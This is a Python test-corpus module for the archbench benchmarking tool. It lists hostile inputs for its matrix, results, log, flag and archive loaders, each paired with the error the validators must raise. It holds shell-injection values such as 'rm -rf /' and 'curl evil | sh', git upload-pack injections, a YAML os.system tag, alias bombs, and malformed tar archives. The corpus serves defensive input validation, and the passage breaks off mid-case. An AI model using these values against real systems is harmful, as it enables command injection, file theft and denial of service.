"""The hostile-input corpus: every case is (input, which loader or command, expected error).

``test_corpus.py`` runs each case and checks that it ends in archbench's own
error (the class given), that the message holds the expected fragment and
names the file or flag, is short, and carries no traceback, no pydantic link
and no raw control characters. Add a case whenever a new kind of input is
found to slip through.

Kinds:

* ``matrix-field``: ``input`` is substituted for one field of a valid matrix
  (:data:`FIELD_TEMPLATES`), then :func:`archbench.matrix.parse`.
* ``matrix-bytes``: the bytes are a matrix file, :func:`archbench.matrix.load`.
* ``results-bytes``: a results file, :func:`archbench.result.load`.
* ``manifest-bytes``: ``run.json`` of run ``20261129T220000Z-abcdef``, loaded by
  :meth:`ResultStore.load_manifest` (the file in a run directory named otherwise
  when the case says so).
* ``history-bytes``: ``history.json`` of history ``20261129T220000Z-abcdef``, loaded by
  :meth:`ResultStore.load_history` (validated as a whole, issue 32).
* ``bisect-bytes``: ``bisect.json`` of bisection ``20261129T220000Z-abcdef``, loaded by
  :meth:`ResultStore.load_bisect` (validated as a whole, issue 39).
* ``setup-bytes``: an import's setup.yml, :func:`archbench.upstream.load_setup`.
* ``log``: an upstream log for ``invoke import`` (scan + build), before writing.
* ``flag``: keyword arguments of an invoke task, called in process.
* ``resume``: a run id given to ``--resume``.
* ``gnunet-string``: the one-string GNUnet source of ``--gnunet``,
  :func:`archbench.matrix.parse_gnunet`.
* ``special-file``: what stands at a results file's, a log's or a manifest's name
  (``input`` is (``fifo``/``socket``/``dir``/``dev-zero``/``big``, loader)): it must be
  refused at once, never block or stream (issue 23).
* ``archive-tar``: an archive tar's bytes for :func:`archbench.archive.extract_tar`.
* ``settings``: ``invoke.yaml``'s ``archbench:`` value, resolved by
  :func:`archbench.cli.resolve_settings`.
"""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from dataclasses import dataclass
from typing import Any

GOOD_MATRIX = """\
version: 1
bases:
  deb: {source: bootstrap, suite: trixie, mirror: "http://mirror.invalid/debian"}
  ubu: {source: pull, image: "ubuntu:24.04"}
profiles:
  slim: {packages: [gcc, "libc6-dev:amd64", "make=4.4.1-2"]}
  taler:
    packages: [curl]
    gnunet: {tarball: "https://tarballs.invalid/g.tar.gz", sha256: "SHA_G"}
    taler: {tarball: "https://tarballs.invalid/e.tar.gz", sha256: "SHA_E"}
hosts:
  box: {url: "tcp://127.0.0.1:2375"}
targets:
  - {name: amd64-trixie, arch: amd64, base: deb, profile: slim}
  - {name: arm64-noble, arch: arm64, base: ubu, profile: taler}
""".replace("SHA_G", "0" * 64).replace("SHA_E", "1" * 64)

FIELD_TEMPLATES: dict[str, tuple[str, str]] = {
    # field: (text replaced in GOOD_MATRIX, replacement with {v} for the JSON-quoted value)
    "package": ("[gcc,", "[{v},"),
    "profile-name": ("  slim: {packages", "  {v}: {packages"),
    "base-name": ("  deb: {source", "  {v}: {source"),
    "host-name": ("  box: {url", "  {v}: {url"),
    "target-name": ("name: amd64-trixie", "name: {v}"),
    "target-base": ("arch: amd64, base: deb", "arch: amd64, base: {v}"),
    "target-profile": ("profile: slim}", "profile: {v}}"),
    "target-host": ("base: deb, profile: slim}", "base: deb, profile: slim, host: {v}}"),
    "target-cpuset": ("base: deb, profile: slim}", "base: deb, profile: slim, cpuset: {v}}"),
    "suite": ("suite: trixie", "suite: {v}"),
    "variant": ("suite: trixie,", "suite: trixie, variant: {v},"),
    "mirror": ('mirror: "http://mirror.invalid/debian"', "mirror: {v}"),
    "image": ('image: "ubuntu:24.04"', "image: {v}"),
    "profile-gnunet-sha256": ('sha256: "' + "0" * 64 + '"', "sha256: {v}"),
    "profile-taler-sha256": ('sha256: "' + "1" * 64 + '"', "sha256: {v}"),
    # gnunet: of a target (issue 20); its paths take spaces and look-alikes, so they have
    # cases of their own below.
    "gnunet-string": ("base: deb, profile: slim}", "base: deb, profile: slim, gnunet: {v}}"),
    "gnunet-git": (
        "base: deb, profile: slim}",
        "base: deb, profile: slim, gnunet: {git: {v}, ref: v0.27.0}}",
    ),
    "gnunet-ref": (
        "base: deb, profile: slim}",
        'base: deb, profile: slim, gnunet: {git: "https://git.invalid/g.git", ref: {v}}}',
    ),
    "gnunet-path": ("base: deb, profile: slim}", "base: deb, profile: slim, gnunet: {path: {v}}}"),
    "gnunet-sha256": (
        "base: deb, profile: slim}",
        "base: deb, profile: slim, gnunet: {tarball: g.tar.gz, sha256: {v}}}",
    ),
}

NASTY: tuple[str, ...] = (
    "gcc; rm -rf /",
    "$(id)",
    "`id`",
    "gcc\nRUN curl evil | sh",
    "gcc\r\nid",
    "--foo",
    "-x",
    "--variant=fakechroot",
    "g\u0441c",  # Cyrillic es
    "\uff47\uff43\uff43",  # fullwidth gcc
    "gcc\u200b",  # zero-width space
    "\u202egcc",  # right-to-left override
    "gcc\x00",
    "a" * 5000,
    "",
    " ",
    "gcc rm",
    "'",
    '"',
    "../../etc/passwd",
    "gcc&&id",
    "gcc|id",
    "${IFS}id",
    "\\",
    "gcc>/etc/x",
    "http://user:pw@host/debian",
)
"""The nastiest values we could think of; each is tried in every field."""


@dataclass(frozen=True)
class Case:
    """One hostile input, where it goes, and the error it must end in."""

    id: str
    kind: str
    input: Any
    expect: str
    """A fragment the message must contain (case-sensitive)."""
    error: str = "MatrixError"
    """The archbench error class (name in archbench.errors)."""


PERMISSIVE_FIELDS = {"gnunet-path"}
"""Fields that take some of :data:`NASTY` on purpose: a path may hold spaces and non-ASCII
letters (it never reaches a shell). Their refusals are cases of their own."""


def _field_cases() -> list[Case]:
    cases = []
    for field in [f for f in FIELD_TEMPLATES if f not in PERMISSIVE_FIELDS]:
        for i, value in enumerate(NASTY):
            cases.append(Case(f"{field}-{i}", "matrix-field", (field, value), "m.yml: "))
    return cases


def _alias_bomb(levels: int = 9, width: int = 9, where: str = "iterations") -> bytes:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, levels):
        refs = ", ".join([f"*a{i - 1}"] * width)
        lines.append(f"a{i}: &a{i} [{refs}]")
    body = "\n".join(lines)
    return (
        f"{body}\nversion: 1\ndefaults:\n  blindsig: {{{where}: *a{levels - 1}}}\n"
        + GOOD_MATRIX.split("\n", 1)[1]
    ).encode()


ALIAS_BOMB = _alias_bomb()
DEEP_YAML = b"version: " + b"[" * 100_000 + b"]" * 100_000 + b"\n"
DEEP_JSON = b"[" * 100_000 + b"]" * 100_000
DEEP_JSON_OBJECT = b'{"a":' * 50_000 + b"1" + b"}" * 50_000


def _result(**over: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "format": "archbench-result",
        "version": 1,
        "run_id": "20261129T220000Z-abcdef",
        "target": {
            "name": "t1",
            "arch": "amd64",
            "platform": "linux/amd64",
            "base": "d",
            "profile": "slim",
        },
        "execution": {
            "emulated": False,
            "host_arch": "amd64",
            "host_cpu": "c",
            "image_id": "sha256:00",
            "image_tag": "archbench/bench:amd64-00",
        },
        "harness": {
            "format": "archbench-harness",
            "version": 1,
            "harness_version": "0.1.0",
            "started_at": "x",
            "duration_s": 1.0,
            "setup": {
                "cpu_model": "c",
                "cores": 2,
                "machine": "x86_64",
                "kernel": "k",
                "os": "o",
                "packages": {},
            },
            "rows": [
                {
                    "suite": "blindsig",
                    "scheme": "RSA",
                    "key_bits": 2048,
                    "operation": "signing",
                    "ops_per_block": 10,
                    "samples_ns": [1000],
                    "valid": True,
                }
            ],
        },
    }
    row = doc["harness"]["rows"][0]
    for key, value in over.items():
        row[key] = value
    return doc


def _manifest(**over: Any) -> bytes:
    doc = {
        "format": "archbench-run",
        "version": 1,
        "run_id": "20261129T220000Z-abcdef",
        "started_at": "x",
        "matrix_file": "matrix.yml",
        "matrix_text": "version: 1",
        "targets": ["a"],
    }
    doc.update(over)
    return json.dumps(doc).encode()


CASES: list[Case] = [
    *_field_cases(),
    # --- bytes and shapes that crashed the loaders ---------------------------------
    Case("matrix-latin1", "matrix-bytes", b"version: 1\n# caf\xe9\n", "not UTF-8 text (byte 16"),
    Case("matrix-utf16", "matrix-bytes", "version: 1".encode("utf-16"), "not UTF-8"),
    Case("matrix-nul", "matrix-bytes", b"version: 1\x00\n", "not valid YAML"),
    Case("matrix-alias-bomb", "matrix-bytes", ALIAS_BOMB, "aliases (*name) are expanded"),
    Case(
        "matrix-alias-bomb-packages",
        "matrix-bytes",
        _alias_bomb(where="rsa_bits"),
        "aliases (*name) are expanded",
    ),
    Case("matrix-deep-flow", "matrix-bytes", DEEP_YAML, "nested deeper than 64"),
    Case(
        "matrix-deep-block",
        "matrix-bytes",
        "".join(f"{' ' * i}k{i}:\n" for i in range(500)).encode() + b" " * 500 + b"x: 1\n",
        "nested deeper than 64",
    ),
    Case("matrix-huge-int", "matrix-bytes", b"version: " + b"9" * 5000 + b"\n", "cannot be read"),
    Case("matrix-too-big", "matrix-bytes", b"#" * (2 * 1024 * 1024), "larger than 256 KiB"),
    Case("matrix-python-tag", "matrix-bytes", b"version: !!python/object:os.system [id]\n", "YAML"),
    Case("matrix-list", "matrix-bytes", b"- 1\n- 2\n", "expected a mapping"),
    Case("matrix-dup-key", "matrix-bytes", b"version: 1\nversion: 1\n", "duplicate key"),
    Case("matrix-complex-key", "matrix-bytes", b"? [a, b]\n: 1\n", "plain value"),
    Case("matrix-two-docs", "matrix-bytes", b"version: 1\n---\nversion: 1\n", "not valid YAML"),
    Case(
        "matrix-rsa-negative",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "version: 1\n", "version: 1\ndefaults: {blindsig: {rsa_bits: [-2048]}}\n"
        ).encode(),
        "RSA key size -2048 is not allowed",
    ),
    Case(
        "matrix-rsa-zero",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "version: 1\n", "version: 1\ndefaults: {blindsig: {rsa_bits: [0]}}\n"
        ).encode(),
        "RSA key size 0 is not allowed",
    ),
    Case(
        "matrix-iterations-list",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "version: 1\n", "version: 1\ndefaults: {blindsig: {iterations: [1]}}\n"
        ).encode(),
        "must be a whole number",
    ),
    Case(
        "matrix-target-run",
        "matrix-bytes",
        GOOD_MATRIX.replace("name: amd64-trixie", "name: run").encode(),
        "file names of the run itself",
    ),
    Case(
        "matrix-target-repeat",
        "matrix-bytes",
        GOOD_MATRIX.replace("name: amd64-trixie", "name: arm64-noble.repeat-2").encode(),
        "file names of the run itself",
    ),
    Case(
        "matrix-target-instructions",
        "matrix-bytes",
        GOOD_MATRIX.replace("name: amd64-trixie", "name: amd64.instructions").encode(),
        "file names of the run itself",
    ),
    Case("matrix-many-nodes", "matrix-bytes", b"- 1\n" * 30_000, "more than 20000 values"),
    Case(
        "matrix-bomb-in-key",
        "matrix-bytes",
        ALIAS_BOMB.replace(b"version: 1", b"? *a8\n: 1\nversion: 1"),
        "expanded",
    ),
    Case(
        "results-long-escapes",
        "results-bytes",
        b'{"format": "' + b"\\n" * 1_000_000 + b'"}',
        "expected 'archbench-result'",
        "ResultsError",
    ),
    Case("results-latin1", "results-bytes", b'{"format": "caf\xe9"}', "not UTF-8", "ResultsError"),
    Case("results-deep", "results-bytes", DEEP_JSON, "nested deeper than 64", "ResultsError"),
    Case("results-deep-obj", "results-bytes", DEEP_JSON_OBJECT, "nested deeper", "ResultsError"),
    Case("results-nan", "results-bytes", b'{"a": NaN}', "NaN is not a number", "ResultsError"),
    Case(
        "results-huge-int",
        "results-bytes",
        b'{"a": ' + b"9" * 5000 + b"}",
        "cannot be read",
        "ResultsError",
    ),
    Case("results-empty", "results-bytes", b"", "not valid JSON", "ResultsError"),
    Case("results-array", "results-bytes", b"[]", "expected a JSON object", "ResultsError"),
    Case(
        "results-absurd-ns",
        "results-bytes",
        json.dumps(_result(samples_ns=[10**30])).encode(),
        "must be at most 9223372036854775807",
        "ResultsError",
    ),
    Case(
        "results-negative-bits",
        "results-bytes",
        json.dumps(_result(key_bits=-2048)).encode(),
        "key_bits -2048 is not a key size",
        "ResultsError",
    ),
    Case(
        "results-zero-bits",
        "results-bytes",
        json.dumps(_result(key_bits=0)).encode(),
        "key_bits 0 is not a key size",
        "ResultsError",
    ),
    Case(
        "results-string-ns",
        "results-bytes",
        json.dumps(_result(samples_ns=["1e400"])).encode(),
        "must be a whole number",
        "ResultsError",
    ),
    Case(
        "manifest-latin1", "manifest-bytes", b'{"run_id": "caf\xe9"}', "not UTF-8", "ResultsError"
    ),
    Case("manifest-deep", "manifest-bytes", DEEP_JSON, "nested deeper", "ResultsError"),
    Case(
        "manifest-escape",
        "manifest-bytes",
        _manifest(run_id="../../../tmp/evil"),
        "does not have the allowed form",
        "ResultsError",
    ),
    Case(
        "manifest-other-run",
        "manifest-bytes",
        _manifest(run_id="20261129T220000Z-ffffff"),
        "the manifest says run",
        "ResultsError",
    ),
    Case(
        "manifest-bad-type",
        "manifest-bytes",
        _manifest(targets="a"),
        "unreadable run manifest",
        "ResultsError",
    ),
    Case("setup-latin1", "setup-bytes", b"cpu_model: caf\xe9\ncores: 2\n", "not UTF-8"),
    Case("setup-bomb", "setup-bytes", ALIAS_BOMB.replace(b"version: 1", b"cores: 1"), "expanded"),
    Case("setup-deep", "setup-bytes", DEEP_YAML, "nested deeper"),
    Case("setup-huge-int", "setup-bytes", b"cpu_model: x\ncores: " + b"9" * 5000, "cannot be read"),
    Case(
        "setup-cores-str", "setup-bytes", b"cpu_model: x\ncores: many\n", "must be a whole number"
    ),
    # --- numbers in imported logs ---------------------------------------------------
    Case(
        "log-absurd-time",
        "log",
        "10x 2048-signing took " + "9" * 40 + " ms\n",
        "longer than any run",
        "ResultsError",
    ),
    Case(
        "log-huge-time",
        "log",
        "10x 2048-signing took 99999999999 days\n",
        "longer than any run",
        "ResultsError",
    ),
    Case(
        "log-huge-count",
        "log",
        "9" * 400 + "x 2048-signing took 34 ms\n",
        "more than any benchmark runs",
        "ResultsError",
    ),
    Case(
        "log-huge-bits",
        "log",
        "10x " + "9" * 5000 + "-signing took 34 ms\n",
        "not a key size",
        "ResultsError",
    ),
    Case("log-zero-bits", "log", "10x 0-signing took 34 ms\n", "not a key size", "ResultsError"),
    # --- flags -------------------------------------------------------------------------
    Case(
        "bench-iterations-abc",
        "flag",
        ("bench", {"iterations": "abc"}),
        "--iterations: 'abc' is not a whole number",
    ),
    Case(
        "bench-iterations-0",
        "flag",
        ("bench", {"iterations": "0"}),
        "--iterations: 0 is out of range",
    ),
    Case("bench-iterations-huge", "flag", ("bench", {"iterations": "9" * 400}), "--iterations:"),
    Case(
        "bench-repetitions-float",
        "flag",
        ("bench", {"repetitions": "2.5"}),
        "--repetitions: '2.5' is not a whole number",
    ),
    Case("bench-warmup-neg", "flag", ("bench", {"warmup": "-1"}), "--warmup: -1 is out of range"),
    Case(
        "bench-max-time-nan",
        "flag",
        ("bench", {"max_time": "nan"}),
        "--max-time: 'nan' is not a finite number",
    ),
    Case(
        "bench-max-time-inf",
        "flag",
        ("bench", {"max_time": "inf"}),
        "--max-time: 'inf' is not a finite number",
    ),
    Case("bench-max-time-0", "flag", ("bench", {"max_time": "0"}), "--max-time: 0 is out of range"),
    Case(
        "bench-repeat-abc",
        "flag",
        ("bench", {"repeat": "abc"}),
        "--repeat: 'abc' is not a whole number",
    ),
    Case("bench-repeat-0", "flag", ("bench", {"repeat": "0"}), "--repeat: 0 is out of range"),
    Case(
        "bench-rsa-neg",
        "flag",
        ("bench", {"rsa_bits": "-2048"}),
        "--rsa-bits: -2048 is out of range",
    ),
    Case("bench-rsa-zero", "flag", ("bench", {"rsa_bits": "0"}), "--rsa-bits: 0 is out of range"),
    Case(
        "bench-rsa-odd", "flag", ("bench", {"rsa_bits": "2047"}), "RSA key size 2047 is not allowed"
    ),
    Case("bench-rsa-empty", "flag", ("bench", {"rsa_bits": ","}), "--rsa-bits: empty selection"),
    Case("bench-arch-empty", "flag", ("bench", {"arch": ""}), "--arch: empty selection"),
    Case("bench-target-empty", "flag", ("bench", {"target": ""}), "--target: empty selection"),
    Case("bench-suite-empty", "flag", ("bench", {"suite": " , "}), "--suite: empty selection"),
    Case(
        "bench-cpuset-text",
        "flag",
        ("bench", {"cpuset": "all"}),
        "--cpuset: 'all' is not a CPU set",
    ),
    Case("bench-cpuset-empty", "flag", ("bench", {"cpuset": ""}), "--cpuset: '' is not a CPU set"),
    Case("bench-cpuset-back", "flag", ("bench", {"cpuset": "3-1"}), "runs backwards"),
    Case("bench-cpuset-inject", "flag", ("bench", {"cpuset": "0;id"}), "is not a CPU set"),
    Case(
        "report-arch-empty",
        "flag",
        ("report", {"arch": ""}),
        "--arch: empty selection",
        "MatrixError",
    ),
    Case("report-run-empty", "flag", ("report", {"run": ""}), "--run: empty selection"),
    Case(
        "report-run-escape",
        "flag",
        ("report", {"run": "../../etc"}),
        "is not a run id",
        "MatrixError",
    ),
    Case(
        "report-bits-abc",
        "flag",
        ("report", {"compare_bits": "abc"}),
        "--compare-bits: 'abc' is not a whole number",
    ),
    Case(
        "report-unit",
        "flag",
        ("report", {"unit": "furlongs"}),
        "--unit 'furlongs' is not one of",
        "ReportUsageError",
    ),
    Case(
        "import-cores-abc",
        "flag",
        ("import_", {"logs": "x.log", "target": "t", "arch": "amd64", "cores": "abc", "cpu": "c"}),
        "--cores: 'abc' is not a whole number",
    ),
    Case(
        "import-rsa-neg",
        "flag",
        (
            "import_",
            {
                "logs": "x.log",
                "target": "t",
                "arch": "amd64",
                "cores": "2",
                "cpu": "c",
                "rsa_bits": "-2048",
            },
        ),
        "--rsa-bits: -2048 is out of range",
    ),
    Case(
        "import-run-escape",
        "flag",
        (
            "import_",
            {
                "logs": "x.log",
                "target": "t",
                "arch": "amd64",
                "cores": "2",
                "cpu": "c",
                "run": "../x",
            },
        ),
        "is not a run id",
        "MatrixError",
    ),
    Case(
        "import-arch-empty",
        "flag",
        ("import_", {"logs": "x.log", "target": "t", "arch": ""}),
        "--arch: empty selection",
    ),
    Case(
        "compare-run-escape",
        "flag",
        ("compare", {"run_a": "../../etc", "run_b": "x"}),
        "RUN_A '../../etc' is not a run id",
        "MatrixError",
    ),
    Case(
        "compare-target-empty",
        "flag",
        ("compare", {"run_a": "a", "run_b": "b", "target": ""}),
        "--target: empty selection",
    ),
    Case(
        "matrix-gnunet-perf-bits",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "version: 1\n", "version: 1\ndefaults: {gnunet-perf: {rsa_bits: [-2048]}}\n"
        ).encode(),
        "RSA key sizes are whole numbers of bits from 512 to 16384",
    ),
    # --- paths taken from flags ----------------------------------------------------------
    Case(
        "resume-escape",
        "resume",
        "../../../tmp",
        "--resume '../../../tmp' is not a run id",
        "MatrixError",
    ),
    Case("resume-abs", "resume", "/etc", "is not a run id", "MatrixError"),
    # --- GNUnet sources (issue 20) ---------------------------------------------------
    *[
        Case(f"gnunet-path-{i}", "matrix-field", ("gnunet-path", v), "is not allowed")
        for i, v in enumerate(
            ["-rf", "$(id)", "`id`", "a;b", "a\nb", "a\x00", "\u202egnunet", "a" * 5000, "", " x"]
        )
    ],
    *[
        Case(f"gnunet-flag-{i}", "gnunet-string", v, "--gnunet: ")
        for i, v in enumerate(
            [
                *(v for v in NASTY if not v.isprintable() or set(v) & set("$`;|&<>'\"\\")),
                "--foo",
                "-x",
                "git+ssh://git@evil/x@v1",
                "git+https://h/g.git@--upload-pack=id",
                "git+ext::sh -c id@v1",
                "g.tgz@sha256:" + "0" * 63,
                "https://u:pw@h/g.tgz@sha256:" + "0" * 64,
                "file:///etc/passwd@sha256:" + "0" * 64,
                "x.tar.gz",
            ]
        )
    ],
    Case("resume-dot", "resume", "..", "is not a run id", "MatrixError"),
    Case("resume-newline", "resume", "20261129T220000Z-abcdef\n", "is not a run id", "MatrixError"),
]


# --- issue 23: unbounded time or memory, strict machine-written files ----------------
SPACES = " " * 1_000_000


def _log_line_cases() -> list[Case]:
    """Long runs of whitespace and digits where the old patterns backtracked (cubic)."""
    lines = {
        "spaces": SPACES,
        "spaces-before-took": "10x 2048-signing" + SPACES + "took 34 ms",
        "spaces-after-count": "10x" + SPACES + "2048-signing took 34 ms",
        "spaces-in-time": "10x 2048-signing took 34" + SPACES + "parsecs",
        "helper-spaces": "100 (sequential) signature operations took" + SPACES + "x",
        "helper-parens": "100 (parallel) signature operations took (" + SPACES + ")",
        "tabs": "\t" * 1_000_000 + "10x signing took",
        "digits": "1" * 1_000_000,
        "took-repeated": " took" * 200_000,
        "x-repeated": "1x " * 300_000,
        "cs-words": "10x " + "key generation " * 60_000,
        "keysize-spaces": "RSA_KEYSIZE" + SPACES + "= 2048",
    }
    parsed = {
        "spaces-in-time": "is not a GNUnet time",
        "helper-spaces": "test_helper_rsa does not print its RSA key size",
    }
    return [
        Case(
            f"log-long-{name}",
            "log",
            line,
            parsed.get(name, "no timing of perf_crypto_cs"),
            "ResultsError",
        )
        for name, line in lines.items()
    ]


def _tar(members: list[tuple[str, bytes]], manifest: bytes | None = None, **over: Any) -> bytes:
    """An archive tar: top directory ``arc``, a manifest listing ``members`` unless given.

    ``over`` edits the tar after the fact: ``sparse`` (a member name: expand it to 2 GiB),
    ``declare`` ((name, size): a header declaring another size), ``truncate`` (bytes cut
    from the end), ``extra`` (members not in the manifest).
    """
    files = [
        {"path": name, "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
        for name, data in members
    ]
    doc = {
        "format": "archbench-archive",
        "version": 1,
        "archive_id": "a1",
        "created_at": "x",
        "archbench_version": "0",
        "run_id": "r1",
        "run_manifest": files[0]["path"],
        "images": [
            {
                "id": "sha256:" + "0" * 64,
                "tag": "archbench/x:1",
                "arch": "amd64",
                "platform": "linux/amd64",
                "host": "local",
                "file": files[-1]["path"],
                "targets": ["t"],
            }
        ],
        "files": files,
    }
    data_manifest = manifest if manifest is not None else json.dumps(doc).encode()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        first = over.get("manifest_name", "manifest.json")
        entries = [(first, data_manifest), *members, *over.get("extra", [])]
        for name, data in entries:
            info = tarfile.TarInfo(f"arc/{name}")
            info.size = len(data)
            if name == over.get("sparse"):
                info.pax_headers = {
                    "GNU.sparse.map": f"0,{len(data)}",
                    "GNU.sparse.size": str(2**31),
                    "GNU.sparse.major": "0",
                    "GNU.sparse.minor": "1",
                }
            if name.endswith("/"):
                info.name = f"arc/{name.rstrip('/')}"
                info.type = tarfile.DIRTYPE
                info.size = 0
                tar.addfile(info)
                continue
            tar.addfile(info, io.BytesIO(data))
    raw = out.getvalue()
    if "declare" in over:
        name, size = over["declare"]
        raw = _redeclare(raw, f"arc/{name}", size)
    if "cut_inside" in over:
        with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
            member = tar.getmember(f"arc/{over['cut_inside']}")
        raw = raw[: member.offset_data + member.size // 2]
    return raw


def _redeclare(raw: bytes, name: str, size: int) -> bytes:
    """``raw`` with the ustar header of ``name`` declaring ``size`` bytes (checksum fixed)."""
    block = 0
    while block < len(raw):
        header = bytearray(raw[block : block + 512])
        if header[:100].rstrip(b"\0") == name.encode():
            header[124:136] = f"{size:011o}\0".encode()
            header[148:156] = b" " * 8
            header[148:156] = f"{sum(header):06o}\0 ".encode()
            return raw[:block] + bytes(header) + raw[block + 512 :]
        block += 512
    raise AssertionError(name)


_RUN = ("results/r1/run.json", b"{}")
_RESULT = ("results/r1/t.json", b'{"t": 1}')
_IMAGE = ("images/x.tar", b"layer" * 100)
_GOOD_TAR_MEMBERS = [_RUN, _RESULT, _IMAGE]


def _manifest_doc(**over: Any) -> bytes:
    doc = json.loads(_tar_members_manifest())
    doc.update(over)
    return json.dumps(doc).encode()


def _tar_members_manifest() -> str:
    raw = _tar(_GOOD_TAR_MEMBERS)
    with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
        member = tar.extractfile("arc/manifest.json")
        assert member is not None
        return member.read().decode()


ISSUE_23_CASES: list[Case] = [
    *_log_line_cases(),
    Case(
        "log-5mb-line",
        "log",
        "10x 2048-signing took " + "9" * 5_000_000 + " fortnights\n",
        "line 1: ",
        "ResultsError",
    ),
    Case(
        "log-cr-progress-line-number",
        "log",
        "start\n10%\r50%\r10x 2048-signing took 34 parsecs\nend\n",
        "line 2: ",
        "ResultsError",
    ),
    Case(
        "log-formfeed-line-number",
        "log",
        "a\fb\x1cc\u2028d\n10x 2048-signing took 0x ms\n",
        "line 2: ",
        "ResultsError",
    ),
    Case(
        "log-crlf-line-number",
        "log",
        "a\r\nb\r\n10x 2048-signing took 1 lightyear\r\n",
        "line 3: ",
        "ResultsError",
    ),
    *[
        Case(f"special-{kind}-{loader}", "special-file", (kind, loader), why, error)
        for loader, error in (
            ("results", "ResultsError"),
            ("log", "ResultsError"),
            ("manifest", "ResultsError"),
            ("setup", "MatrixError"),
            ("matrix", "MatrixError"),
        )
        for kind, why in (
            ("fifo", "a FIFO (named pipe), not a regular file"),
            ("dev-zero", "a character device, not a regular file"),
            ("dir", "a directory, not a regular file"),
            ("socket", "a socket, not a regular file"),
        )
        if not (loader == "manifest" and kind == "dir")
    ],
    Case("special-big-log", "special-file", ("big", "log"), "larger than 16 MiB", "ResultsError"),
    # Machine-written files are strict (issue 23, kind 6 and 4).
    Case(
        "results-dup-key",
        "results-bytes",
        json.dumps(_result()).replace('"valid": true', '"valid": true, "valid": false').encode(),
        "duplicate key 'valid'",
        "ResultsError",
    ),
    Case(
        "results-dup-samples",
        "results-bytes",
        json.dumps(_result())
        .replace('"samples_ns": [1000]', '"samples_ns": [1000], "samples_ns": [1]')
        .encode(),
        "duplicate key 'samples_ns'",
        "ResultsError",
    ),
    Case(
        "results-dup-top",
        "results-bytes",
        b'{"format": "archbench-result", "format": "x"}',
        "duplicate key 'format'",
        "ResultsError",
    ),
    Case("results-1e400", "results-bytes", b'{"a": 1e400}', "would be infinity", "ResultsError"),
    Case("results-neg-1e400", "results-bytes", b'{"a": [-1e400]}', "infinity", "ResultsError"),
    Case(
        "results-quota-inf",
        "results-bytes",
        json.dumps(_result()).replace('"duration_s": 1.0', '"duration_s": 1e999').encode(),
        "would be infinity",
        "ResultsError",
    ),
    Case(
        "results-lone-surrogate",
        "results-bytes",
        json.dumps(_result()).replace('"cpu_model": "c"', '"cpu_model": "\\ud800"').encode(),
        "at 'cpu_model': a lone surrogate",
        "ResultsError",
    ),
    Case(
        "results-surrogate-in-list",
        "results-bytes",
        b'{"a": ["\\udfff"]}',
        "lone surrogate",
        "ResultsError",
    ),
    Case(
        "results-surrogate-key",
        "results-bytes",
        b'{"\\ud834": 1}',
        "lone surrogate",
        "ResultsError",
    ),
    Case(
        "manifest-dup-key",
        "manifest-bytes",
        _manifest().replace(b'"version": 1', b'"version": 1, "version": 1'),
        "duplicate key 'version'",
        "ResultsError",
    ),
    Case(
        "manifest-1e400",
        "manifest-bytes",
        _manifest().replace(b'"version": 1', b'"version": 1e400'),
        "infinity",
        "ResultsError",
    ),
    # Archive tars: sizes bounded by the manifest as they are written (issue 23, kind 1, 4).
    Case(
        "tar-sparse-2gib",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, sparse="images/x.tar"),
        "is a sparse file",
        "ArchiveError",
    ),
    Case(
        "tar-sparse-manifest",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, sparse="manifest.json"),
        "is a sparse file",
        "ArchiveError",
    ),
    Case(
        "tar-header-declares-more-than-follows",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, declare=("images/x.tar", 10_000)),
        "unexpected end of data",
        "ArchiveError",
    ),
    Case(
        "tar-cut-inside-the-last-member",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, cut_inside="images/x.tar"),
        "unexpected end of data",
        "ArchiveError",
    ),
    Case(
        "tar-cut-inside-the-manifest",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, cut_inside="manifest.json"),
        "arc.tar: ",
        "ArchiveError",
    ),
    Case(
        "tar-not-listed",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, extra=[("notes.txt", b"hi")]),
        "is not listed in arc/manifest.json",
        "ArchiveError",
    ),
    Case(
        "tar-duplicate-name",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, extra=[_IMAGE]),
        "is named twice",
        "ArchiveError",
    ),
    Case(
        "tar-file-then-dir",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, extra=[("images/x.tar/", b"")]),
        "is named twice (a file, then a directory)",
        "ArchiveError",
    ),
    Case(
        "tar-below-a-file",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, extra=[("images/x.tar/inner", b"x")]),
        "which is a file",
        "ArchiveError",
    ),
    Case(
        "tar-no-manifest",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, manifest_name="manifest.jsn"),
        "no arc/manifest.json",
        "ArchiveError",
    ),
    Case(
        "tar-manifest-deep",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, manifest=b"[" * 10_000 + b"]" * 10_000),
        "nested deeper than 64",
        "ArchiveError",
    ),
    Case(
        "tar-manifest-huge-int",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, manifest=b'{"version": ' + b"9" * 5000 + b"}"),
        "cannot be read",
        "ArchiveError",
    ),
    Case(
        "tar-manifest-dup-key",
        "archive-tar",
        _tar(
            _GOOD_TAR_MEMBERS,
            manifest=_manifest_doc().replace(b'"version": 1', b'"version": 1, "version": 1'),
        ),
        "duplicate key 'version'",
        "ArchiveError",
    ),
    Case(
        "tar-manifest-latin1",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, manifest=b'{"format": "caf\xe9"}'),
        "not UTF-8",
        "ArchiveError",
    ),
    Case(
        "tar-manifest-sizes-lie",
        "archive-tar",
        _tar(
            _GOOD_TAR_MEMBERS,
